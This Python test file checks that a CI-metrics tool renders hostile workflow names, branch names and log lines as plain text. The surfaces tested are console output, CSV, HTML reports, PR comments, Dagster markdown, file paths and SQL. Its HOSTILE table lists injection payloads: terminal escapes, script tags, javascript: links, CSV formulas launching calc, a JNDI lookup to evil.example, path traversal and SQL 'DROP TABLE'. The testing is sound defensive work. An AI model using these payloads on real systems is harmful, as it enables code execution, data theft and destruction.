"""Names and lines that are made to be more than text are text, on every surface that
shows them or is made of them.
"""

from __future__ import annotations

import contextlib
import csv
import io
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from html.parser import HTMLParser
from pathlib import Path

import dagster as dg
import pytest

from ci_metrics.cli import build_app
from ci_metrics.commands.launch import run_hours
from ci_metrics.commands.sample_mode import sample_settings
from ci_metrics.history.search import Filters, find_failures
from ci_metrics.index.document_index import Body, Document, Where
from ci_metrics.orchestration.instance import open_instance
from ci_metrics.orchestration.jobs import INGEST
from ci_metrics.orchestration.page_addresses import PREFIX
from ci_metrics.orchestration.parts import open_parts
from ci_metrics.sample.server import SampleGitHub
from ci_metrics.sample.world import AnnotationSpec, JobSpec, RunSpec, World
from ci_metrics.settings import Settings, load_settings
from ci_metrics_tests.github.worlds import REPO, START, attempt, job, pull, run, world

HOUR = f"{START:%Y-%m-%dT%H}"
PULL = 7

#: What each is made to be where it is not taken for text.
HOSTILE = {
    "escape sequence": "a\x1b[2J\x1b[31mred\x9b1m\x07",
    "terminal's link": "\x1b]8;;https://evil.example\x07click\x1b]8;;\x1b\\",
    "forged line": "ok\n✅ Posted metrics for forged-job-1\r\n✅ Posted metrics for forged-job-2",
    "forged line by other breaks": "ok\u2028✅ Posted metrics for forged-job-3\x85✅ Posted metrics for forged-job-4\x0b",
    "overwritten line": "failed\rpassed \x08\x08\x08",
    "turned text": "invoice\u202egnp.exe\u2066",
    "link": "[click](https://evil.example) <https://evil.example> https://evil.example www.evil.example",
    "image": "![i](https://evil.example/i.png) <img src=x onerror=window.hacked=1>",
    "script": '</td></script><script>window.hacked=1</script>"><svg onload=window.hacked=1>',
    "script address": "[x](javascript:window.hacked=1) javascript:window.hacked=1",
    "mention": "@octocat @acme/team closes #1 GH-2 acme/shop#3",
    "left cell": "a | b\n| --- |\n| [x](https://evil.example) | `code` **bold** ~~s~~",
    "left fence": "```\n<!-- ci-metrics --> ````\n# heading",
    "template": "{{ 7*7 }} {% for x in y %} ${jndi:ldap://evil.example/a} %s {0}",
    "console markup": "[bold red]x[/] [link=https://evil.example]x[/link] [/]",
    "formula": "=cmd|' /C calc'!A0",
    "formula by sign": "+1+cmd|' /C calc'!A0",
    "formula by another sign": "-2+3+cmd|' /C calc'!A0",
    "formula by at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula in full width": "\uff1dcmd|' /C calc'!A0",
    "formula behind a blank": "\t=1+1",
    "path": "../../../../tmp/evil",
    "absolute path": "/etc/passwd",
    "Windows path": "..\\..\\evil.exe",
    "SQL": "'; DROP TABLE documents; --",
    "SQL of a condition": '" OR "1"="1',
    "pattern": "%_*?[a-z]",
    "cut string": "name\x00rest",
}
UNSEEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]")
MARKED = re.compile(
    r"(?<!\\)!?(?<!\\)\[[^\]]*(?<!\\)\]\(|<(?!!-- ci-metrics)[A-Za-z/!]|://(?!\u200b)|(?<![\w\u200b])www\.(?=\w)|@(?=\w)"
)


@dataclass(frozen=True)
class Hour:
    """An hour of such names and lines after a whole run, and the same in
    documents that nothing cleaned.
    """

    settings: Settings
    result: dg.ExecuteInProcessResult
    raw: list[Document]
    around: Path


def hostile_world() -> World:
    runs: list[RunSpec] = []
    for number, text in enumerate(HOSTILE.values(), start=1):
        runs.append(
            run(
                number,
                [attempt(1, [hostile_job(number, text)], 1, actor=text)],
                1,
                event="pull_request",
                workflow_name=text,
                head_branch=text,
                display_title=text,
                head_sha="0" * 40,
                pull_numbers=(PULL,),
            )
        )
    return world(*runs, pulls=[pull(PULL, REPO, "topic", title=HOSTILE["link"])])


def hostile_job(number: int, text: str) -> JobSpec:
    """A failed job whose every string is `text`."""
    lines = ("##[group]Run make", "##[endgroup]", f"Error: {text}", f"AssertionError: part {number}: {text}")
    stamped = "".join(f"2026-03-02T09:00:00.1234567Z {line}\n" for line in "\n".join(lines).split("\n"))
    made = job(100 + number, text, 1, 2, conclusion="failure", runner_name=text, labels=(text,))
    note = AnnotationSpec(level="failure", message=text, title=text, path=text)
    steps = (made.steps[0], replace(made.steps[1], name=text))
    return replace(made, steps=steps, annotations=(note,), log=stamped.encode("utf-8", "replace"))


#: The text fields of documents.
TEXTS = frozenset(
    {
        "s_workflow_name", "s_job_name", "s_step_name", "s_branch", "s_user_alias", "s_runner_name", "s_error_summary",
        "s_error_evidence", "s_suggested_fix", "s_annotation_messages",
    }
)  # fmt: skip


def uncleaned(documents: list[Document]) -> list[Document]:
    """The documents as if nothing had been cleaned on the way but NUL, which no index takes:
    each text is of `HOSTILE`.
    """
    texts = [text.replace("\x00", "\ufffd") for text in HOSTILE.values()]
    out: list[Document] = []
    for place, document in enumerate(documents):
        text = texts[place % len(texts)]
        body: Body = {name: text if name in TEXTS else value for name, value in document.body.items()}
        body |= {"s_error_log_url": "javascript:window.hacked=1", "s_html_url": text}
        errors: list[Body] = document.body.get("errors", [])
        body["errors"] = [{name: text if name in TEXTS else value for name, value in error.items()} for error in errors]
        out.append(replace(document, body=body))
    return out


@pytest.fixture(scope="module")
def hour(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hour]:
    around = tmp_path_factory.mktemp("around")
    made = hostile_world()
    with SampleGitHub(made) as server, pytest.MonkeyPatch.context() as patch:
        for name in Settings.model_fields:
            patch.delenv(name.upper(), raising=False)
        patch.setenv("CI_METRICS_HOME", str(around / "home"))
        patch.setenv("COLUMNS", "200")
        patch.chdir(around)
        settings = sample_settings(load_settings(), server.api_url, made.repos)
        with open_instance(settings) as instance:
            result = run_hours(settings, instance, INGEST, HOUR, HOUR, quiet=True)
        assert result.success
        with open_parts(settings) as parts:
            index = parts.index.documents
            raw = uncleaned([d for d in index.scan("jobs") if "s_error_state" in d.body])
            assert len(raw) == len(HOSTILE)
            index.upsert(raw)
            index.refresh()
        yield Hour(settings, result, raw, around)


def said(*arguments: str) -> str:
    """What a command prints."""
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        build_app()(list(arguments), result_action="return_value")
    return out.getvalue()


def steers_a_terminal(text: str) -> list[str]:
    """What is more than text on a terminal, and lines that are not ours."""
    return [*UNSEEN.findall(text), *(line for line in text.split("\n") if line.lstrip().startswith("✅ Posted"))]


def in_console(hour: Hour) -> list[str]:
    shown = (
        said("search", "--limit", "0") + said("top", "jobs", "--limit", "0") + said("top", "branches", "--limit", "0")
    )
    assert shown.count("evil.example") > 3  # it is shown, as text
    return steers_a_terminal(shown)


def in_explain(hour: Hour) -> list[str]:
    shown = "".join(said("explain", document.id, "--why") for document in hour.raw)
    assert "evil.example" in shown
    return steers_a_terminal(shown)


def in_csv(hour: Hour) -> list[str]:
    text = said("search", "--csv", "--limit", "0")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == len(HOSTILE) + 1 and {len(row) for row in rows} == {len(rows[0])}
    rows = rows[1:] + list(csv.reader(io.StringIO(said("top", "jobs", "--csv"))))[1:]
    cells = [cell for row in rows for cell in row]
    number = re.compile(r"-?\d+(?:\.\d+)?(?:e-?\d+)?")
    formulas = [
        cell for cell in cells if re.match(r"\s*[=+@\uff1d\uff0b\uff0d\uff20-]", cell) and not number.fullmatch(cell)
    ]
    return formulas + [cell for cell in cells if UNSEEN.search(cell)]


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []
        self.scripts = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.scripts += tag == "script"
        given = dict(attrs)
        if tag in ("img", "iframe", "object", "embed", "base", "form") or any(name.startswith("on") for name in given):
            self.bad.append(f"{tag} {given}")
        link = given.get("href") or ""
        if link and not link.startswith(("#", "data:,", "https://github.com/", "http://127.0.0.1")):
            self.bad.append(link)


def in_report(hour: Hour) -> list[str]:
    said("report", "--out", "page.html")
    page = (hour.around / "page.html").read_text(encoding="utf-8")
    assert "window.hacked" in page
    seen = _Page()
    seen.feed(page)
    return seen.bad + ["a script"] * (seen.scripts - 1) + re.findall("[\u202a-\u202e\u2066-\u2069\x1b]", page)


def in_comment(hour: Hour) -> list[str]:
    body = said("pr-comment", "--repo", REPO, "--pr", str(PULL), "--dry-run")
    assert "evil" in body
    outside = re.sub(r"(?ms)^(`{3,})text$.*?^\1$", "", body)
    assert outside != body
    ours = re.sub(r"\]\(https?://(?:github\.com|127\.0\.0\.1)[^()\s]*\)|</?sub>", "]", outside)
    return [found.group() for found in MARKED.finditer(ours)] + UNSEEN.findall(body)


def in_dagsters_markdown(hour: Hour) -> list[str]:
    events = [event for event in hour.result.all_events if event.is_step_materialization]
    values = [value for event in events for value in event.step_materialization_data.materialization.metadata.values()]
    texts = [value.md_str or "" for value in values if isinstance(value, dg.MarkdownMetadataValue)]
    assert any("evil" in text for text in texts)
    ours = [
        re.sub(rf"\]\({PREFIX}/[\w/-]+\)|\]\(https?://(?:github\.com|127\.0\.0\.1)[^()\s]*\)", "]", text)
        for text in texts
    ]
    found = [match.group() for text in ours for match in MARKED.finditer(text)] + UNSEEN.findall("".join(texts))
    tables = [re.sub(r"\\.", "", line) for text in texts for line in text.split("\n") if line.startswith("|")]
    return found + [line for line in tables if not line.rstrip().endswith("|")]


def in_paths(hour: Hour) -> list[str]:
    hour_files = [path.relative_to(hour.around).as_posix() for path in hour.around.rglob("*")]
    assert any(name.endswith(".log.zst") for name in hour_files)
    odd = [name for name in hour_files if not re.fullmatch(r"[\w./=@+-]+", name, re.ASCII)]
    outside = [name for name in hour_files if not name.startswith("home") and name != "page.html"]
    return odd + outside + [path for path in ("/tmp/evil", "/etc/evil.exe") if Path(path).exists()]


def in_sql(hour: Hour) -> list[str]:
    wrong = []
    with open_parts(hour.settings) as parts:
        index = parts.index.documents
        stored = [str(document.body["s_branch"]) for document in index.scan("jobs")]
        for name in (str(document.body["s_branch"]) for document in hour.raw):
            asked = Where(equals={"s_branch": name})
            found = [str(document.body["s_branch"]) for document in index.scan("jobs", asked)]
            counted = index.count_by("jobs", "s_branch", asked)
            if found != [name] * stored.count(name) or sum(counted.values()) != len(found) or not found:
                wrong.append(f"{name!r} finds {found}")
            find_failures(index, Filters(text=name))
        if stored != [str(document.body["s_branch"]) for document in index.scan("jobs")]:
            wrong.append("documents are gone")
    return wrong


SURFACES: dict[str, Callable[[Hour], list[str]]] = {
    "report": in_report,
    "comment": in_comment,
    "console": in_console,
    "explain": in_explain,
    "CSV": in_csv,
    "Dagster's markdown": in_dagsters_markdown,
    "paths": in_paths,
    "SQL": in_sql,
}


@pytest.mark.parametrize("surface", SURFACES)
def test_hostile_names_and_lines_are_text_and_nothing_more(surface: str, hour: Hour) -> None:
    assert SURFACES[surface](hour) == []
